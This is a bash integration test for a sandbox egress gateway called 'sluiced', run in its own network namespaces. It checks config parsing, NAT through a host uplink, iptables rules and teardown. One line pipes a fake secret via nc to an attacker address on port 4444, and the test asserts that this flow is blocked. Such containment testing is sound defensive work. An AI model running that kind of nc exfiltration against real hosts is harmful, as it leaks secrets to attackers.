#!/bin/bash
# 18-host-uplink: without --uplink-netns the uplink is the host's: a veth
# into the namespace sluiced runs in, NAT through its default route. The
# "host" here is a namespace of the test's own (sluiced is started in it
# with nsenter), so the machine's real network is never touched.
. "$(dirname "$0")/../lib/testbed.sh"
tb_init host-uplink
tb_internet_up || { tb_fail "test bed up"; tb_done; }
tb_inet_client host || { tb_fail "host namespace"; tb_done; }
hostns="${P}-host"

# most settings come from a config file (-c), whose keys are the flags'
cat > "$TB_DIR/sluiced.json" <<EOF
{"control": "$TB_DIR/ctl.sock", "db": "$TB_DIR/flows.db",
 "state-dir": "$TB_DIR/state", "pool": "$TB_POOL", "queue-maxlen": 1024,
 "netns": "not-this-one"}
EOF
# ... and the command line wins over it
args=(-f -c "$TB_DIR/sluiced.json" --netns "$TB_NETNS_GW")
printf '{"db": "/x", "colour": 1}\n' > "$TB_DIR/bad.json"
err=$("$SLUICED" -f -c "$TB_DIR/bad.json" 2>&1)
tb_assert_eq "$?" 1 "a config file with an unknown key: exit 1"
tb_assert_match "$err" 'unknown key "colour"' "naming the key"
nsenter --net="/run/netns/$hostns" "$SLUICED" "${args[@]}" \
    </dev/null >>"$TB_DIR/sluiced.log" 2>&1 &
pid=$!
for i in $(seq 50); do
	tb_sluice sandbox list >/dev/null 2>&1 && break
	sleep 0.1
done
tb_check "sluiced runs with the host uplink" kill -0 $pid
tb_check "in the gateway namespace named on the command line" \
    [ -e "/run/netns/$TB_NETNS_GW" -a ! -e /run/netns/not-this-one ]

cat > "$TB_DIR/policy.json" <<EOF
{"sluice": {"allowedCidrs": ["192.0.2.10:443"]}}
EOF
tb_check "sandbox add" tb_sandbox_add a "$TB_DIR/policy.json"

out=$(tb_in a curl -s --max-time 5 --cacert "$TB_CA" \
    --resolve "a.test:443:$TB_ADDR_HTTPS" https://a.test/)
tb_assert_eq "$out" "hello from a.test" "an allowed flow goes out through the host"
tb_assert_eq "$(grep -c "^198.51.100.66 $TB_ADDR_HTTPS:443 sni=a.test" \
    "$TB_DIR/nginx.access.log")" 1 "nginx saw it from the host's address (NAT)"
echo "host-secret" | tb_in a nc -w 2 "$TB_ADDR_ATK" 4444 >/dev/null 2>&1
tb_check "a denied flow still fails" [ $? != 0 ]
sleep 0.3
tb_assert_eq "$(tb_attacker_packet_count)" 0 "the attacker received nothing"

rules=$(ip netns exec "$hostns" iptables -S; ip netns exec "$hostns" iptables -t nat -S)
tb_check "the host's chain for the gateway" \
    ip netns exec "$hostns" iptables -S "sluice-in-$TB_NETNS_GW"
tb_assert_eq "$(echo "$rules" | grep -c "sluice gateway $TB_NETNS_GW")" 4 \
    "four host rules, tagged with the gateway's name"

kill -TERM $pid
wait $pid
tb_assert_eq "$?" 0 "SIGTERM: clean exit"
nsenter --net="/run/netns/$hostns" "$SLUICED" --teardown "${args[@]}" \
    >>"$TB_DIR/sluiced.log" 2>&1
tb_assert_eq "$?" 0 "teardown"
rules=$(ip netns exec "$hostns" iptables -S; ip netns exec "$hostns" iptables -t nat -S)
tb_assert_eq "$(echo "$rules" | grep -c "sluice gateway")" 0 "teardown removed the host rules"
tb_check "and the chain that keeps sandboxes off the host" \
    bash -c "! ip netns exec '$hostns' iptables -S 'sluice-in-$TB_NETNS_GW' >/dev/null 2>&1"
tb_check "the gateway namespace is gone" [ ! -e "/run/netns/$TB_NETNS_GW" ]
tb_check "the sandbox is gone" [ ! -e "/run/netns/${P}-a" ]
tb_check "the host end of the uplink is gone" \
    bash -c "! ip -n '$hostns' link show 'sl-$TB_NETNS_GW' >/dev/null 2>&1"
tb_done
